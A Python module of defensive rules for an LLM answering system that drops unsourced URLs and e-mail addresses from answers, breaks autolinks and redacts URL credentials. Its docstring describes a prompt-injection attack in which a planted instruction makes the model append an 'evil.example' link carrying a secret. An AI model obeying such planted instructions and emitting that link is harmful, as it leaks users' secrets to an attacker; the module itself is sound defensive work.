"""Text rules against exfiltration through links, shared by the answering path and every front end.

A planted instruction can make an LLM append `https://evil.example/c?d=<secret from another source>`;
one click on it leaks the secret. So a generated answer keeps a URL or e-mail address only when it is
quoted verbatim from a source it cites, and anything shown to a person is defused so no renderer turns
it into a link (`defuse_links`).
"""

from __future__ import annotations

import re
from typing import Iterable
from urllib.parse import urlsplit, urlunsplit

# what Markdown renderers (GFM's autolink literals) and people treat as a link: scheme URLs,
# www. hosts, e-mail addresses (with or without mailto:)
_LINK = re.compile(
    r"\b[a-z][a-z0-9+.\-]{1,20}:/{1,3}[^\s<>\"'`]+"  # https://..., ftp://..., file:///...
    r"|\b(?:mailto|xmpp|javascript|data):[^\s<>\"'`]+"
    r"|\bwww\d{0,3}\.[^\s<>\"'`]+"
    r"|[\w.+\-]+@[\w\-]+(?:\.[\w\-]+)+",
    re.I,
)
_TRAILING = ".,;:!?)]}'\"*_"
REMOVED = "(link removed)"
WORD_JOINER = "\u2060"  # invisible, not a break opportunity; splits the patterns autolinkers look for
_AUTOLINK_START = re.compile(
    r"(?<=\b[a-z])(?=[a-z0-9+.\-]{0,20}:/)|(?<=\bw)(?=ww\d{0,3}\.)|(?<=@)|(?<=\b[a-z])(?=ailto:)", re.I
)


def links(text: str) -> list[str]:
    """URLs and e-mail addresses in `text`, trailing sentence punctuation removed."""
    return [m.group(0).rstrip(_TRAILING) for m in _LINK.finditer(text)]


def drop_unsourced_links(answer: str, cited: Iterable[str]) -> str:
    """The answer with every URL/e-mail that is not verbatim in one of the cited spans replaced by
    "(link removed)"."""
    spans = [s for s in cited if s]

    def keep_or_drop(m: re.Match) -> str:
        found = m.group(0)
        link = found.rstrip(_TRAILING)
        tail = found[len(link) :]
        return found if any(link in s for s in spans) else REMOVED + tail

    return _LINK.sub(keep_or_drop, answer)


def defuse_links(text: str) -> str:
    """Text that reads the same but that no autolinker (GFM, linkify, mail clients) turns into a link:
    an invisible word joiner inside each scheme, `www.` and after each `@`."""
    return _AUTOLINK_START.sub(WORD_JOINER, text)


def redact_url(url: object) -> str:
    """A URL without `user:password@`, for messages shown to people."""
    text = str(url)
    try:
        parts = urlsplit(text)
    except ValueError:
        return "(an invalid URL)"
    if "@" not in parts.netloc:
        return text
    host = parts.netloc.rsplit("@", 1)[1]
    return urlunsplit((parts.scheme, host, parts.path, parts.query, parts.fragment))
